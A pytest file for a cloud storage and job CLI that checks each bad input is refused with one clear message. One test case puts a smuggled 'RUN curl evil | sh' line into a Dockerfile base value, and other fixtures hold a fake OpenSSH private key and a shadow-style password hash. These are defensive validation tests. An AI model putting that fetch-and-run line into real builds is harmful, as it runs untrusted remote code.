"""The small ones from the attacker's trial: each bad input is one line naming the thing and the fix,
never a crash, never the whole batch lost for one file."""

from __future__ import annotations

import io
import os
from pathlib import Path

import pytest

from services.cancel import CancelToken
from services.errors import UserError
from services.images.dockerfile import DockerfileSpec, render_dockerfile
from services.jobs.protocol import job_resources
from services.storage.planning import plan_upload
from services.storage.protocol import UploadOptions
from tests.helpers import nothing
from tui.cli import main
from tui.screens.job_run import spec_from_fields

LONG_PART = "x" * 256


def test_a_key_part_over_255_bytes_fails_that_file_alone(store_and_bucket, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:  # noqa: F811
    store, bucket = store_and_bucket
    (tmp_path / "repo" / LONG_PART[:200]).mkdir(parents=True)
    (tmp_path / "repo" / "ok.txt").write_text("ok")
    (tmp_path / "repo" / LONG_PART[:200] / ("y" * 200)).write_text("long")  # each file name fits; the key gets a long prefix
    monkeypatch.chdir(tmp_path)
    items = plan_upload(["repo"], add_prefix=LONG_PART + "/")
    result = store.upload(bucket, items, UploadOptions(), nothing, CancelToken())
    if bucket.region == "LOCAL":
        assert result.done == () and all("has a part over 255 bytes" in reason for _key, reason in result.failed)
    else:  # S3 keys may be 1024 bytes long, parts of any length
        assert result.ok


def test_a_file_name_that_is_not_utf8_fails_alone(store_and_bucket, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:  # noqa: F811
    store, bucket = store_and_bucket
    root = tmp_path / "repo"
    root.mkdir()
    (root / "good.txt").write_text("good")
    with open(os.path.join(os.fsencode(root), b"caf\xe9.txt"), "wb") as handle:
        handle.write(b"latin-1 name")
    monkeypatch.chdir(tmp_path)
    result = store.upload(bucket, plan_upload(["repo"], remove_prefix="repo/"), UploadOptions(), nothing, CancelToken())
    assert result.done == ("good.txt",)
    assert len(result.failed) == 1 and "not valid UTF-8" in result.failed[0][1]


def test_the_cli_names_a_non_utf8_file_without_crashing(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> None:
    (tmp_path / "repo").mkdir()
    with open(os.path.join(os.fsencode(tmp_path / "repo"), b"\xff.bin"), "wb") as handle:
        handle.write(b"x")
    monkeypatch.chdir(tmp_path)
    code = main(["bucket", "object", "upload", "--create", "odd@LOCAL", "repo", "--skip-validation"], env={}, out=io.StringIO())
    err = capsys.readouterr().err
    assert code == 1 and "not valid UTF-8" in err and "unexpected error" not in err


@pytest.mark.parametrize(
    ("spec", "message"),
    [
        (DockerfileSpec(base="busybox\nRUN curl evil | sh"), "holds a line break or control character"),
        (DockerfileSpec(extra_lines=("RUN pip install pillow\nUSER root",)), "holds a line break or control character"),
        (DockerfileSpec(extra_lines=("RUN echo \x1b[2J",)), "holds a line break or control character"),
        (DockerfileSpec(base="busybox latest"), "must be one image reference"),
    ],
)
def test_dockerfile_lines_cannot_smuggle_instructions(spec: DockerfileSpec, message: str) -> None:
    with pytest.raises(UserError, match=message):
        render_dockerfile(spec)


@pytest.mark.parametrize(
    ("gpu", "cpu", "message"),
    [
        (0, None, "--gpu 0 leaves the job without GPUs or CPUs: give --cpu N"),
        (5, None, "--gpu 5: a job takes 1 to 4 GPUs"),
        (-1, None, "--gpu -1: a job takes 1 to 4 GPUs"),
        (None, 0, "--cpu 0: a CPU job takes 1 to 12 CPUs"),
        (None, -3, "--cpu -3: a CPU job takes 1 to 12 CPUs"),
    ],
)
def test_one_rule_for_job_resources(gpu: int | None, cpu: int | None, message: str) -> None:
    with pytest.raises(UserError, match=message):
        job_resources(gpu, cpu)


def test_job_resources_that_make_sense() -> None:
    assert job_resources(None, None) == (1, None)
    assert job_resources(4, None) == (4, None)
    assert job_resources(None, 2) == (0, 2)
    assert job_resources(0, 2) == (0, 2)
    assert job_resources(2, 4) == (2, None), "the GPU count wins, as in ovhai"


@pytest.mark.parametrize(
    ("argv", "message"),
    [
        (["job", "run", "--gpu", "0", "img"], "--gpu 0 leaves the job without GPUs"),
        (["job", "run", "--cpu", "0", "img"], "--cpu 0: a CPU job takes 1 to 12 CPUs"),
        (["job", "run", "--cpu", "-3", "img"], "--cpu -3: a CPU job takes 1 to 12 CPUs"),
        (["job", "run", "--grpc-port", "0", "img"], "--grpc-port 0 is not a port"),
        (["bucket", "object", "upload", "-w", "0", "b@LOCAL", "."], "--workers 0: give 1 to 64 parallel transfers"),
        (["job", "run", "--cpu", "99999999999999999999", "img"], "a CPU job takes 1 to 12 CPUs"),
        (["job", "run", ""], "IMAGE is empty: give an image"),
        (["job", "run", "img x"], "is not an image reference: no spaces"),
        (["health", "-u", "http://[::1"], "write an IPv6 address as [::1]:8000"),
    ],
)
def test_cli_refuses_nonsense_numbers_in_one_line(argv: list[str], message: str, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(argv, env={}, out=io.StringIO()) == 1
    err = capsys.readouterr().err
    assert message in err and err.count("\n") == 1, err


def test_the_run_form_applies_the_same_rule() -> None:
    fields = {"image": "img", "command": "", "gpu": "9", "port": "8000", "volume": "", "name": "", "env": "", "labels": ""}
    with pytest.raises(UserError, match="--gpu 9: a job takes 1 to 4 GPUs"):
        spec_from_fields(fields, unsecure_http=False)
    spec = spec_from_fields({**fields, "gpu": "0"}, unsecure_http=False)
    assert (spec.gpu, spec.cpu) == (0, 1)


def _public_key(kind: str = "ssh-ed25519") -> str:
    """A key line in the real format: base64 of (length, type name, length, 32 key bytes)."""
    import base64
    import struct

    blob = struct.pack(">I", len(kind)) + kind.encode() + struct.pack(">I", 32) + bytes(range(32))
    return f"{kind} {base64.b64encode(blob).decode()} me@host"


def test_ssh_key_files_must_hold_public_keys_only(tmp_path: Path) -> None:
    from services.jobs.ssh_keys import ssh_public_keys

    key = _public_key()
    good = tmp_path / "keys.pub"
    good.write_text(f"# mine\n\n{key}\n")
    assert ssh_public_keys([str(good), _public_key("ssh-rsa")]) == (key, _public_key("ssh-rsa"))
    private = tmp_path / "id_ed25519"
    private.write_text("-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAABG5vbmU=\n-----END OPENSSH PRIVATE KEY-----\n")
    shadow = tmp_path / "shadow"
    shadow.write_text(f"{key}\nroot:$6$saltsalt$hash-of-a-password:19000::::::\n")
    for path, line in ((private, 1), (shadow, 2)):
        with pytest.raises(UserError) as caught:
            ssh_public_keys([str(path)])
        message = caught.value.message
        assert f"line {line} is not a public key" in message and "BEGIN" not in message and "$6$" not in message
    with pytest.raises(UserError, match="not a whole public key"):
        ssh_public_keys(["ssh-ed25519 AAAAC3Nza"])
    with pytest.raises(UserError, match="neither a public key nor a readable file"):
        ssh_public_keys([str(tmp_path / "missing.pub")])


def test_the_cli_refuses_a_private_key_file_without_showing_it(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    private = tmp_path / "id_ed25519"
    private.write_text("-----BEGIN OPENSSH PRIVATE KEY-----\nsecret-material-0417\n")
    assert main(["job", "run", "-s", str(private), "img"], env={}, out=io.StringIO()) == 1
    err = capsys.readouterr().err
    assert "line 1 is not a public key" in err and "secret-material" not in err and err.count("\n") == 1, err
